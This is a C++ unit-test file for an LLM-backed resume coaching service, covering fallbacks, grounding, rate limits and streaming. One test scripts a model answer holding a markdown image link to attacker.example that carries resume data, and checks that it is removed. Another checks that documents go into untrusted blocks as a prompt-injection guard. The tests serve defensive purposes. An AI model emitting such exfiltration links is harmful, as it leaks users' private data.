// Tests of the use cases in LLM mode: ChatService and AnalysisService with a scripted LLM client
// over MemoryStore — answers, fallbacks with notices, grounding, limits, streaming and saving.
#include <gtest/gtest.h>

#include <chrono>
#include <condition_variable>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "llm/scripted_llm_client.h"
#include "llm/test_report.h"
#include "service/analysis_service.h"
#include "service/chat_service.h"
#include "service/fakes_for_test.h"
#include "service/report_cache.h"
#include "storage/memory_store.h"

namespace rc::service {
namespace {

using llm::LlmErrorKind;
using llm::ScriptedAnswer;

// An analyst whose report says Kubernetes is missing (llm::testing::SampleReport), so grounding has
// something to catch.
class SampleAnalyst final : public Analyst {
 public:
  Result<AnalysisOutput> Analyze(std::string_view, std::string_view) const override {
    AnalysisOutput out;
    out.report = llm::testing::SampleReport();
    out.markdown =
        "## Qualification Assessment\nbuilt-in\n## Missing Skills / Experience\n- Kubernetes\n"
        "## Key Strengths\n- Python\n";
    out.report_json = R"({"score":{"total":58}})";
    return out;
  }
};

// Threads started by RecordingSink::RunBlocking, joined when the test ends (a sink may be
// released on one of them, so it cannot join them itself).
class ThreadBag {
 public:
  ~ThreadBag() {
    std::vector<std::thread> threads;
    {
      std::lock_guard lock(mu_);
      threads.swap(threads_);
    }
    for (std::thread& t : threads) t.join();
  }
  void Run(std::function<void()> work) {
    std::lock_guard lock(mu_);
    threads_.emplace_back(std::move(work));
  }

 private:
  std::mutex mu_;
  std::vector<std::thread> threads_;
};

// Collects what a stream delivers. RunBlocking runs the work on its own thread, as the server
// does on its worker pool.
class RecordingSink final : public StreamSink {
 public:
  // `shows_tokens` false: a transport that shows nothing before Finish (a JSON response).
  explicit RecordingSink(ThreadBag& bag, bool shows_tokens = true)
      : bag_(bag), shows_tokens_(shows_tokens) {}
  bool ShowsTokens() const override { return shows_tokens_; }
  void Token(std::string_view text) override {
    std::lock_guard lock(mu_);
    tokens_.emplace_back(text);
    cv_.notify_all();
  }
  void RunBlocking(std::function<void()> work) override { bag_.Run(std::move(work)); }
  void Finish(StreamEnd end) override {
    std::lock_guard lock(mu_);
    end_ = std::move(end);
    finished_ += 1;
    cv_.notify_all();
  }
  // Waits (bounded) for Finish and returns how the stream ended.
  StreamEnd Wait() {
    std::unique_lock lock(mu_);
    EXPECT_TRUE(cv_.wait_for(lock, std::chrono::seconds(10), [&] { return finished_ > 0; }));
    return end_;
  }
  void WaitForTokens(std::size_t n) {
    std::unique_lock lock(mu_);
    EXPECT_TRUE(cv_.wait_for(lock, std::chrono::seconds(10), [&] { return tokens_.size() >= n; }));
  }
  std::vector<std::string> tokens() {
    std::lock_guard lock(mu_);
    return tokens_;
  }
  int finished() {
    std::lock_guard lock(mu_);
    return finished_;
  }

 private:
  std::mutex mu_;
  std::condition_variable cv_;
  ThreadBag& bag_;
  bool shows_tokens_;
  std::vector<std::string> tokens_;
  StreamEnd end_;
  int finished_ = 0;
};

ScriptedAnswer Tokens(std::vector<std::string> tokens, int gap_ms = 0) {
  ScriptedAnswer a;
  a.tokens = std::move(tokens);
  a.gap_ms = gap_ms;
  return a;
}

ScriptedAnswer Failure(LlmErrorKind kind, std::string message,
                       std::vector<std::string> tokens = {}) {
  ScriptedAnswer a;
  a.tokens = std::move(tokens);
  a.error = kind;
  a.status = UnavailableError(std::move(message));
  return a;
}

const std::string kAnalysis =
    "## Qualification Assessment\n\nClose match.\n\n## Missing Skills / Experience\n\n- "
    "Kubernetes\n\n## Key Strengths\n\n- Python\n";

class LlmServiceTest : public ::testing::Test {
 protected:
  explicit LlmServiceTest(llm::RateLimitConfig limits = {}, LlmCoachOptions options = {})
      : coach_(client_, clock_, limits, WithLog(std::move(options))) {}

  LlmCoachOptions WithLog(LlmCoachOptions options) {
    options.log = [this](const std::string& line) {
      std::lock_guard lock(log_mu_);
      log_.push_back(line);
    };
    return options;
  }
  std::vector<std::string> Log() {
    std::lock_guard lock(log_mu_);
    return log_;
  }
  // A session created in built-in mode (no LLM call).
  std::string NewSession() {
    Result<AnalyzeResult> r = builtin_analysis_.Analyze("resume text", "job text");
    EXPECT_TRUE(r.ok());
    return r.ok() ? r->session_id : "";
  }
  std::vector<model::ChatTurn> Chat(const std::string& id) {
    Result<model::Session> s = store_.GetSession(id);
    EXPECT_TRUE(s.ok());
    return s.ok() ? s->chat : std::vector<model::ChatTurn>{};
  }

  FakeClock clock_;
  storage::MemoryStore store_{clock_};
  SampleAnalyst analyst_;
  FakeResponder responder_;
  llm::ScriptedLlmClient client_;
  std::mutex log_mu_;
  std::vector<std::string> log_;
  LlmCoach coach_;
  Limits limits_;
  AnalysisService builtin_analysis_{store_, analyst_, limits_};
  AnalysisService analysis_{store_, analyst_, limits_, &coach_};
  ChatService chat_{store_, analyst_, responder_, clock_, limits_, &coach_};
  // The same use cases sharing a report cache that holds one report.
  ReportCache cache_{{.max_entries = 1}};
  AnalysisService cached_analysis_{store_, analyst_, limits_, &coach_, &cache_};
  ChatService cached_chat_{store_, analyst_, responder_, clock_, limits_, &coach_, &cache_};
  // Last, so the blocking work of finished streams is joined before the services go.
  ThreadBag threads_;
};

TEST_F(LlmServiceTest, ChatAnswersFromTheLlmAndSavesTheTurnAsLlm) {
  const std::string id = NewSession();
  client_.Push(Tokens({"Focus on ", "Kubernetes."}));
  Result<AskResult> a = chat_.Ask(id, "What should I learn?", "10.0.0.1");
  ASSERT_TRUE(a.ok()) << a.status().ToString();
  EXPECT_EQ(a->answer, "Focus on Kubernetes.");
  EXPECT_EQ(a->mode, "llm");
  EXPECT_EQ(a->notice, "");
  const std::vector<model::ChatTurn> chat = Chat(id);
  ASSERT_EQ(chat.size(), 2u);
  EXPECT_EQ(chat[1].content, "Focus on Kubernetes.");
  EXPECT_EQ(chat[1].mode, "llm");
  EXPECT_TRUE(chat[1].complete);
  // The prompt carried the question last and the documents in untrusted blocks.
  const std::vector<llm::ChatRequest> requests = client_.requests();
  ASSERT_EQ(requests.size(), 1u);
  EXPECT_EQ(requests[0].messages.back().content, "What should I learn?");
  EXPECT_NE(requests[0].messages.front().content.find("<<<BEGIN UNTRUSTED RESUME>>>"),
            std::string::npos);
  const std::vector<std::string> log = Log();
  ASSERT_EQ(log.size(), 1u);
  EXPECT_NE(log[0].find("llm op=chat outcome=ok attempts="), std::string::npos) << log[0];
  EXPECT_EQ(log[0].find("Kubernetes"), std::string::npos) << "the answer must not be logged";
}

TEST_F(LlmServiceTest, ChatFallsBackToTheBuiltinCoachWithANoticeOnUpstreamFailure) {
  const std::string id = NewSession();
  client_.Push(Failure(LlmErrorKind::kTimeout, "the AI service timed out"));
  Result<AskResult> a = chat_.Ask(id, "why?", "10.0.0.1");
  ASSERT_TRUE(a.ok()) << a.status().ToString();
  EXPECT_EQ(a->mode, "builtin");
  EXPECT_EQ(a->answer.rfind("answer to: why?", 0), 0u) << a->answer;
  EXPECT_EQ(a->notice,
            "The AI coach is unavailable: the AI service timed out. This answer is from the "
            "built-in coach.");
  const std::vector<model::ChatTurn> chat = Chat(id);
  ASSERT_EQ(chat.size(), 2u);
  EXPECT_EQ(chat[1].mode, "builtin");
}

TEST_F(LlmServiceTest, ChatAnnotatesAClaimOfASkillTheEngineFoundNoEvidenceFor) {
  const std::string id = NewSession();
  client_.Push(Tokens({"Your Kubernetes expertise ", "stands out."}));
  Result<AskResult> a = chat_.Ask(id, "strengths?", "10.0.0.1");
  ASSERT_TRUE(a.ok());
  EXPECT_NE(a->answer.find("Not supported by the resume"), std::string::npos) << a->answer;
  EXPECT_NE(Log()[0].find("claims=1"), std::string::npos) << Log()[0];
}

TEST_F(LlmServiceTest, ChatRemovesMarkdownImagesFromTheAnswer) {
  const std::string id = NewSession();
  client_.Push(Tokens({"See ![x](https://attacker.example/?d=resume) here."}));
  Result<AskResult> a = chat_.Ask(id, "show", "10.0.0.1");
  ASSERT_TRUE(a.ok());
  EXPECT_EQ(a->answer.find("attacker.example"), std::string::npos) << a->answer;
}

TEST_F(LlmServiceTest, APromptOverTheBudgetIsAnsweredByTheBuiltinCoachNotTruncated) {
  LlmCoachOptions options;
  options.budget.max_prompt_tokens = 50;
  LlmCoach small(client_, clock_, {}, options);
  ChatService chat(store_, analyst_, responder_, clock_, limits_, &small);
  const std::string id = NewSession();
  Result<AskResult> a = chat.Ask(id, "why?", "10.0.0.1");
  ASSERT_TRUE(a.ok());
  EXPECT_EQ(a->mode, "builtin");
  EXPECT_NE(a->notice.find("too long for the AI coach"), std::string::npos) << a->notice;
  EXPECT_TRUE(client_.requests().empty());
}

TEST_F(LlmServiceTest, StreamDeliversTokensThenSavesTheCompleteAnswer) {
  const std::string id = NewSession();
  client_.Push(Tokens({"One ", "two ", "three."}));
  Result<std::shared_ptr<AnswerStream>> stream = chat_.AskStream(id, "count?", "10.0.0.1");
  ASSERT_TRUE(stream.ok()) << stream.status().ToString();
  EXPECT_EQ((*stream)->report_json(), "");
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  ASSERT_TRUE(end.status.ok()) << end.status.ToString();
  EXPECT_EQ(sink->tokens(), (std::vector<std::string>{"One ", "two ", "three."}));
  EXPECT_EQ(end.markdown, "One two three.");
  EXPECT_EQ(end.mode, "llm");
  const std::vector<model::ChatTurn> chat = Chat(id);
  ASSERT_EQ(chat.size(), 2u);
  EXPECT_EQ(chat[0].content, "count?");
  EXPECT_EQ(chat[1].content, "One two three.");
  EXPECT_TRUE(chat[1].complete);
}

TEST_F(LlmServiceTest, StreamFailureBeforeAnyTokenGivesTheBuiltinAnswerWithANotice) {
  const std::string id = NewSession();
  ScriptedAnswer busy = Failure(LlmErrorKind::kRateLimited, "the AI service is busy");
  client_.Push(busy);
  Result<std::shared_ptr<AnswerStream>> stream = chat_.AskStream(id, "why?", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  ASSERT_TRUE(end.status.ok());
  EXPECT_TRUE(sink->tokens().empty());
  EXPECT_EQ(end.mode, "builtin");
  EXPECT_NE(end.notice.find("the AI service is busy"), std::string::npos);
  ASSERT_EQ(Chat(id).size(), 2u);
  EXPECT_EQ(Chat(id)[1].mode, "builtin");
}

TEST_F(LlmServiceTest, StreamFailureAfterTokensSavesThePartialAnswerMarkedIncomplete) {
  const std::string id = NewSession();
  client_.Push(Failure(LlmErrorKind::kTruncated, "the AI service closed the connection",
                       {"Half ", "an answer"}));
  Result<std::shared_ptr<AnswerStream>> stream = chat_.AskStream(id, "why?", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  EXPECT_FALSE(end.status.ok());
  EXPECT_TRUE(end.partial);
  EXPECT_FALSE(end.cancelled);
  EXPECT_EQ(end.status.message(), "the AI service closed the connection");
  const std::vector<model::ChatTurn> chat = Chat(id);
  ASSERT_EQ(chat.size(), 2u);
  EXPECT_EQ(chat[1].content, "Half an answer");
  EXPECT_EQ(chat[1].mode, "llm");
  EXPECT_FALSE(chat[1].complete);
  EXPECT_EQ(client_.requests().size(), 1u) << "nothing is replayed after tokens were shown";
}

// A sink that shows no tokens (the JSON form) gets what the blocking Ask gives: a failure after
// tokens is answered by the built-in coach, saved complete.
TEST_F(LlmServiceTest, AStreamToASinkThatShowsNoTokensFallsBackAfterTokensLikeAsk) {
  const std::string id = NewSession();
  client_.Push(Failure(LlmErrorKind::kTruncated, "the AI service closed the connection",
                       {"Half ", "an answer"}));
  Result<std::shared_ptr<AnswerStream>> stream = chat_.AskStream(id, "why?", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_, /*shows_tokens=*/false);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  ASSERT_TRUE(end.status.ok()) << end.status.ToString();
  EXPECT_TRUE(sink->tokens().empty());
  EXPECT_EQ(end.mode, "builtin");
  EXPECT_NE(end.notice.find("the AI service closed the connection"), std::string::npos)
      << end.notice;
  EXPECT_FALSE(end.partial);
  const std::vector<model::ChatTurn> chat = Chat(id);
  ASSERT_EQ(chat.size(), 2u);
  EXPECT_EQ(chat[1].content, end.markdown);
  EXPECT_EQ(chat[1].mode, "builtin");
  EXPECT_TRUE(chat[1].complete);
}

TEST_F(LlmServiceTest, CancellingAStreamWhoseSinkShowsNoTokensSavesNothing) {
  const std::string id = NewSession();
  client_.Push(Tokens({"a ", "b ", "c ", "d ", "e ", "f ", "g ", "h "}, 100));
  Result<std::shared_ptr<AnswerStream>> stream = chat_.AskStream(id, "slow?", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_, /*shows_tokens=*/false);
  (*stream)->Start(sink);
  std::this_thread::sleep_for(std::chrono::milliseconds(250));
  (*stream)->Cancel();
  const StreamEnd end = sink->Wait();
  EXPECT_TRUE(end.cancelled);
  EXPECT_FALSE(end.partial);
  EXPECT_TRUE(Chat(id).empty());
}

TEST_F(LlmServiceTest, CancellingAStreamStopsItAndKeepsWhatWasShownAsIncomplete) {
  const std::string id = NewSession();
  client_.Push(Tokens({"a ", "b ", "c ", "d ", "e ", "f ", "g ", "h "}, 100));
  Result<std::shared_ptr<AnswerStream>> stream = chat_.AskStream(id, "slow?", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  sink->WaitForTokens(2);
  (*stream)->Cancel();
  const StreamEnd end = sink->Wait();
  EXPECT_TRUE(end.cancelled);
  EXPECT_TRUE(end.partial);
  EXPECT_LT(sink->tokens().size(), 8u);
  const std::vector<model::ChatTurn> chat = Chat(id);
  ASSERT_EQ(chat.size(), 2u);
  EXPECT_FALSE(chat[1].complete);
  EXPECT_EQ(chat[1].content.rfind("a b ", 0), 0u) << chat[1].content;
  EXPECT_NE(Log()[0].find("outcome=cancelled"), std::string::npos) << Log()[0];
}

TEST_F(LlmServiceTest, OneOpenStreamPerSessionThenTheNextIsAllowed) {
  const std::string id = NewSession();
  client_.Push(Tokens({"x ", "y ", "z "}, 50));
  Result<std::shared_ptr<AnswerStream>> first = chat_.AskStream(id, "one", "10.0.0.1");
  ASSERT_TRUE(first.ok());
  Result<std::shared_ptr<AnswerStream>> second = chat_.AskStream(id, "two", "10.0.0.1");
  ASSERT_FALSE(second.ok());
  EXPECT_EQ(second.status().code(), StatusCode::kResourceExhausted);
  EXPECT_GT(second.status().retry_after_ms(), 0);
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*first)->Start(sink);
  ASSERT_TRUE(sink->Wait().status.ok());
  client_.Push(Tokens({"ok"}));
  EXPECT_TRUE(chat_.AskStream(id, "three", "10.0.0.1").ok());
}

TEST_F(LlmServiceTest, AStreamDroppedBeforeItStartsReleasesItsSlot) {
  const std::string id = NewSession();
  {
    Result<std::shared_ptr<AnswerStream>> dropped = chat_.AskStream(id, "one", "10.0.0.1");
    ASSERT_TRUE(dropped.ok());
  }
  client_.Push(Tokens({"ok"}));
  EXPECT_TRUE(chat_.AskStream(id, "two", "10.0.0.1").ok());
}

TEST_F(LlmServiceTest, InBuiltinModeAStreamFinishesAtOnceWithTheSavedAnswer) {
  ChatService builtin(store_, analyst_, responder_, clock_, limits_);
  const std::string id = NewSession();
  Result<std::shared_ptr<AnswerStream>> stream = builtin.AskStream(id, "why?", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  ASSERT_EQ(Chat(id).size(), 2u) << "saved before the stream starts";
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  EXPECT_EQ(sink->finished(), 1);
  const StreamEnd end = sink->Wait();
  EXPECT_EQ(end.mode, "builtin");
  EXPECT_EQ(end.notice, "");
  EXPECT_TRUE(client_.requests().empty());
}

TEST_F(LlmServiceTest, UnknownSessionIsNotFoundAndCostsNoLlmCall) {
  Result<std::shared_ptr<AnswerStream>> stream =
      chat_.AskStream("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "why?", "10.0.0.1");
  EXPECT_EQ(stream.status().code(), StatusCode::kNotFound);
  EXPECT_TRUE(client_.requests().empty());
}

TEST_F(LlmServiceTest, AnalysisNarrativeComesFromTheLlmAndTheSessionRecordsIt) {
  client_.Push(Tokens({kAnalysis}));
  Result<AnalyzeResult> r = analysis_.Analyze("resume", "job", "10.0.0.1");
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->mode, "llm");
  EXPECT_EQ(r->markdown, kAnalysis);
  EXPECT_EQ(r->report_json, R"({"score":{"total":58}})");
  Result<model::Session> s = store_.GetSession(r->session_id);
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(s->analysis_mode, "llm");
  EXPECT_EQ(s->analysis_markdown, kAnalysis);
  EXPECT_EQ(s->analysis_notice, "");  // nothing to explain
}

TEST_F(LlmServiceTest, AnalysisWithoutTheRequiredSectionsFallsBackToTheBuiltinOne) {
  client_.Push(Tokens({"Looks great, hire them! PINEAPPLE"}));
  Result<AnalyzeResult> r = analysis_.Analyze("resume", "job", "10.0.0.1");
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->mode, "builtin");
  EXPECT_EQ(r->markdown.find("PINEAPPLE"), std::string::npos);
  EXPECT_NE(r->notice.find("did not have the required sections"), std::string::npos) << r->notice;
  Result<model::Session> s = store_.GetSession(r->session_id);
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(s->analysis_mode, "builtin");
  // The session keeps the reason, so a restored session can still say why.
  EXPECT_EQ(s->analysis_notice, r->notice);
}

TEST_F(LlmServiceTest, AnalysisStreamSendsTheReportFirstAndCreatesTheSessionAtTheEnd) {
  client_.Push(Tokens({"## Qualification Assessment\n\nok\n\n",
                       "## Missing Skills / Experience\n\n", "- x\n\n## Key Strengths\n\n- y\n"}));
  Result<std::shared_ptr<AnswerStream>> stream = analysis_.AnalyzeStream("r", "j", "10.0.0.1");
  ASSERT_TRUE(stream.ok()) << stream.status().ToString();
  EXPECT_EQ((*stream)->report_json(), R"({"score":{"total":58}})");
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  ASSERT_TRUE(end.status.ok()) << end.status.ToString();
  EXPECT_EQ(sink->tokens().size(), 3u);
  EXPECT_EQ(end.mode, "llm");
  ASSERT_FALSE(end.session_id.empty());
  Result<model::Session> s = store_.GetSession(end.session_id);
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(s->analysis_markdown, end.markdown);
  EXPECT_EQ(s->analysis_mode, "llm");
  EXPECT_EQ(s->analysis_notice, "");
}

TEST_F(LlmServiceTest, AnalysisStreamFailureStillCreatesTheSessionWithTheBuiltinAnalysis) {
  client_.Push(Failure(LlmErrorKind::kTruncated, "the AI service closed the connection", {"## Q"}));
  Result<std::shared_ptr<AnswerStream>> stream = analysis_.AnalyzeStream("r", "j", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  ASSERT_TRUE(end.status.ok());
  EXPECT_EQ(end.mode, "builtin");
  EXPECT_NE(end.notice.find("closed the connection"), std::string::npos);
  Result<model::Session> s = store_.GetSession(end.session_id);
  ASSERT_TRUE(s.ok());
  EXPECT_EQ(s->analysis_markdown.rfind("## Qualification Assessment\nbuilt-in", 0), 0u);
  EXPECT_EQ(s->analysis_mode, "builtin");
  EXPECT_EQ(s->analysis_notice, end.notice);
}

TEST_F(LlmServiceTest, ACancelledAnalysisStreamCreatesNoSession) {
  client_.Push(Tokens({"a", "b", "c", "d", "e", "f"}, 100));
  Result<std::shared_ptr<AnswerStream>> stream = analysis_.AnalyzeStream("r", "j", "10.0.0.1");
  ASSERT_TRUE(stream.ok());
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  sink->WaitForTokens(1);
  (*stream)->Cancel();
  const StreamEnd end = sink->Wait();
  EXPECT_TRUE(end.cancelled);
  EXPECT_TRUE(end.session_id.empty());
  EXPECT_NE(Log()[0].find("op=analysis outcome=cancelled"), std::string::npos);
}

TEST_F(LlmServiceTest, AStreamedChatUsesTheReportItsStreamedAnalysisCachedEvenAfterEviction) {
  client_.Push(Tokens({kAnalysis}));
  Result<std::shared_ptr<AnswerStream>> analyzed =
      cached_analysis_.AnalyzeStream("r", "j", "10.0.0.1");
  ASSERT_TRUE(analyzed.ok()) << analyzed.status().ToString();
  auto analysis_sink = std::make_shared<RecordingSink>(threads_);
  (*analyzed)->Start(analysis_sink);
  const StreamEnd created = analysis_sink->Wait();
  ASSERT_TRUE(created.status.ok()) << created.status.ToString();
  EXPECT_EQ(cache_.stats().entries, 1u);

  client_.Push(Tokens({"Your Kubernetes expertise ", "stands out."}));
  Result<std::shared_ptr<AnswerStream>> stream =
      cached_chat_.AskStream(created.session_id, "strengths?", "10.0.0.1");
  ASSERT_TRUE(stream.ok()) << stream.status().ToString();
  EXPECT_EQ(cache_.stats().hits, 1u);
  EXPECT_EQ(cache_.stats().misses, 0u);
  // Another session's report takes the only slot before the stream starts; the stream keeps the
  // report it was prepared with, and grounding still finds Kubernetes unsupported in it.
  cache_.Put("another-session", "{}", std::make_shared<const model::Report>());
  EXPECT_EQ(cache_.stats().evictions, 1u);
  auto sink = std::make_shared<RecordingSink>(threads_);
  (*stream)->Start(sink);
  const StreamEnd end = sink->Wait();
  ASSERT_TRUE(end.status.ok()) << end.status.ToString();
  EXPECT_EQ(end.mode, "llm");
  EXPECT_NE(end.markdown.find("Not supported by the resume"), std::string::npos) << end.markdown;
}

class LlmLimitsTest : public LlmServiceTest {
 protected:
  static llm::RateLimitConfig Limits() {
    llm::RateLimitConfig c;
    c.per_session = {1, 1};
    c.per_ip = {3, 3};
    return c;
  }
  LlmLimitsTest() : LlmServiceTest(Limits()) {}
};

TEST_F(LlmLimitsTest, ASessionOverItsLimitGets429WithARetryTimeAndNothingIsSaved) {
  const std::string id = NewSession();
  client_.Push(Tokens({"first"}));
  ASSERT_TRUE(chat_.Ask(id, "one", "10.0.0.1").ok());
  Result<AskResult> second = chat_.Ask(id, "two", "10.0.0.1");
  ASSERT_FALSE(second.ok());
  EXPECT_EQ(second.status().code(), StatusCode::kResourceExhausted);
  EXPECT_NE(second.status().message().find("this session"), std::string::npos);
  EXPECT_GT(second.status().retry_after_ms(), 0);
  EXPECT_LE(second.status().retry_after_ms(), 60'000);
  EXPECT_EQ(Chat(id).size(), 2u);
  EXPECT_EQ(client_.requests().size(), 1u);
  // A minute later the bucket has refilled.
  clock_.Advance(60'000);
  client_.Push(Tokens({"again"}));
  EXPECT_TRUE(chat_.Ask(id, "three", "10.0.0.1").ok());
}

TEST_F(LlmLimitsTest, AnAddressOverItsLimitGets429ForChatAndTheBuiltinAnalysisForAnalyze) {
  for (int i = 0; i < 3; ++i) {
    client_.Push(Tokens({kAnalysis}));
    Result<AnalyzeResult> r = analysis_.Analyze("r", "j", "10.0.0.9");
    ASSERT_TRUE(r.ok());
    EXPECT_EQ(r->mode, "llm");
  }
  Result<AnalyzeResult> fourth = analysis_.Analyze("r", "j", "10.0.0.9");
  ASSERT_TRUE(fourth.ok()) << "the analysis is still given, by the built-in engine";
  EXPECT_EQ(fourth->mode, "builtin");
  EXPECT_NE(fourth->notice.find("your network address"), std::string::npos) << fourth->notice;
  // Refused before any call to the model: the session still records why.
  Result<model::Session> stored = store_.GetSession(fourth->session_id);
  ASSERT_TRUE(stored.ok());
  EXPECT_EQ(stored->analysis_notice, fourth->notice);
  Result<AskResult> chat = chat_.Ask(fourth->session_id, "q", "10.0.0.9");
  EXPECT_EQ(chat.status().code(), StatusCode::kResourceExhausted);
  // Another address is not affected.
  client_.Push(Tokens({"fine"}));
  EXPECT_TRUE(chat_.Ask(fourth->session_id, "q", "10.0.0.10").ok());
}

class LlmBudgetTest : public LlmServiceTest {
 protected:
  LlmBudgetTest() : LlmServiceTest({}, Budget()) {}
  static LlmCoachOptions Budget() {
    LlmCoachOptions o;
    o.max_daily_tokens = 1;
    return o;
  }
};

TEST_F(LlmBudgetTest, OnceTheDailyBudgetIsSpentTheBuiltinCoachAnswersUntilMidnightUtc) {
  const std::string id = NewSession();
  client_.Push(Tokens({"spent"}));
  Result<AskResult> first = chat_.Ask(id, "one", "10.0.0.1");
  ASSERT_TRUE(first.ok());
  EXPECT_EQ(first->mode, "llm");
  EXPECT_GT(coach_.tokens_today(), 1);
  Result<AskResult> second = chat_.Ask(id, "two", "10.0.0.1");
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(second->mode, "builtin");
  EXPECT_NE(second->notice.find("paused"), std::string::npos) << second->notice;
  EXPECT_EQ(client_.requests().size(), 1u);
  clock_.Advance(24LL * 60 * 60 * 1000);
  client_.Push(Tokens({"new day"}));
  Result<model::Session> s = store_.GetSession(id);
  ASSERT_FALSE(s.ok()) << "the session expired with the day; use a new one";
  const std::string next = NewSession();
  Result<AskResult> third = chat_.Ask(next, "three", "10.0.0.1");
  ASSERT_TRUE(third.ok());
  EXPECT_EQ(third->mode, "llm");
}

}  // namespace
}  // namespace rc::service
